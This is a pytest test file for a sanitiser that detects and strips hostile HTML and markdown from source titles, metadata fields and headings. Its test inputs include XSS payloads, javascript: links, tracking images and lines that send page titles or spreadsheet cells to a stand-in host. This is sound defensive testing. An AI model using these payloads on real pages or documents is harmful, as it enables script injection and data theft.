"""What a source is called may hold code and pictures: it is named, and read without them."""

from __future__ import annotations

import pytest

from moot.evidence import hostile
from moot.evidence.library import Library
from moot.words import Document, Noticed, Source

CARRIED = [
    'Water levels of the canal "><script>alert(1)</script>',
    "Water levels of the canal <IMG SRC=x ONERROR=alert(1)>",
    "Water levels of the canal <script src=//x.example/a.js></script>",
    "<iframe src='https://x.example/f'></iframe> Water levels of the canal",
    'Water levels <img width="1" src="https://x.example/p.gif"> of the canal',
    "Water levels of the canal ![level](http://x.example/p?d=1)",
    "Water levels ![](https://x.example/p.png 'p') of the canal",
    "[Water](javascript:alert(document.cookie)) levels of the canal",
    "Water levels of the canal <a href=' javascript:alert(1)'>",
    "Water levels of the canal <svg/onload=fetch('//x.example')>",
    "Water levels of the canal [more](data:text/html,<script>alert(1)</script>)",
]
ORDINARY = [
    "When to use the <script> and <iframe> tags",
    "Between <script> and </script>: where code belongs on a page",
    "Why an <img> needs an alt text: a guide!",
    "Effect of CO<sub>2</sub> on <i>Chlorella</i> at pH < 7 and T > 20",
    "JavaScript: the good parts",
    "Growth (a=3) of reed [1](2)",
    "Profit = sales - costs: a primer",
    "See [the register](https://canal.example/register)",
    "On the onset of ice: <1 mm and >3 mm",
    "Wow![a note](b)",
    "Script: a history of writing; data: text and images",
]


def document(title: str, text: str = "The level of the canal rose by 12 cm in 2024.", **said: str) -> Document:
    card = Source(id="S1", title=title, origin="a.md", sha256="0", text_sha256="0", media="html")
    return Document(source=card.model_copy(update=said), text=text)


def named(document: Document) -> list[Noticed]:
    return [each for each in hostile.scan(document) if not each.doubtful]


@pytest.mark.parametrize("title", CARRIED)
def test_code_and_pictures_of_a_title_are_named(title: str) -> None:
    assert [each.what.endswith("in its title") for each in named(document(title))] == [True]
    kept = hostile.bare(title)
    assert not [char for char in "<>()" if char in kept] and {"levels", "of", "the", "canal"} <= set(kept.split())


@pytest.mark.parametrize("title", ORDINARY)
def test_titles_on_such_code_are_ordinary(title: str) -> None:
    assert named(document(title)) == []
    assert hostile.bare(title) == title


def test_the_other_lines_that_are_shown_of_a_source_are_looked_through_too() -> None:
    for field in ("author", "journal", "site", "licence"):
        found = named(document("Water levels", **{field: "Harbour Office <img src=x onerror=alert(1)>"}))
        assert [each.what for each in found] == [f"code that a program may run (HTML), in its {field}"]


def test_letters_that_only_look_latin_are_named_in_a_title() -> None:
    assert named(document("The librаry of Tarnby")) and not named(document("Библиотека Tarnby"))


def test_a_heading_is_read_without_its_code() -> None:
    text = "## Levels <script>fetch('//x.example')</script> in 2024\n\nThe level of the canal rose by 12 cm."
    library = Library([document("Water levels", text)])
    assert [library.quotable(each).heading for each in library.passages] == ["Levels in 2024"]


@pytest.mark.parametrize(
    ("heading", "read"),
    [
        ("![logo](https://a.example/l.png) Ferry [![Build](https://ci.example/b.svg)](https://ci.example)", "Ferry"),
        ("![The Ferry](logo.png)", "The Ferry"),
        ('<img src="https://a.example/l.png" width="80"> The Ferry', "The Ferry"),
        ('<img src="https://a.example/l.png" alt="The Ferry" width="80">', "The Ferry"),
        ("[The Ferry](https://a.example/Ferry_(ship)) of 1921", "The Ferry of 1921"),
        ("[The Ferry](https://a.example) of 1921", "The Ferry of 1921"),
    ],
)
def test_a_picture_in_a_heading_is_none_of_its_words_where_there_are_others(heading: str, read: str) -> None:
    (passage,) = Library([document("Water levels", f"# {heading}\n\nIt carried 12 people.")]).passages
    assert passage.heading == read


@pytest.mark.parametrize(
    "code",
    [
        "<script>fetch('//x.example/?d=' + document.title)</script>",
        "<SCRIPT>\nlocation = '//x.example'\n</SCRIPT>",
        "<style>@import url(https://x.example/a.css);</style>",
        "<style>p { background: url('//x.example/a') }</style>",
        "[the tables](javascript:alert(1))",
        '<a href="javascript:alert(1)">',
        '=hyperlink("https://x.example/?"&A1)',
    ],
)
def test_code_in_a_text_is_named_however_it_is_written(code: str) -> None:
    assert named(document("Water levels", f"The level rose.\n\n{code}\n\nIt fell."))
    assert not named(document("Water levels", f"The level rose.\n\n```\n{code}\n```\n\nIt fell."))


@pytest.mark.parametrize(
    "text",
    [
        "Put your code between <script> and </script>, and close each tag.",
        "The tag <script src=app.js> loads a file; <img src=https://a.example/l.png> shows one.",
        "Write your rules between <style> and </style>, or load a sheet with @import.",
        "<style>p { color: red }</style> makes a paragraph red.",
        "JavaScript: a language. Data: text, html and more.",
        "![Level](https://canal.example/level.png)",
    ],
)
def test_a_text_on_pages_is_ordinary(text: str) -> None:
    assert not named(document("How pages are made", text))
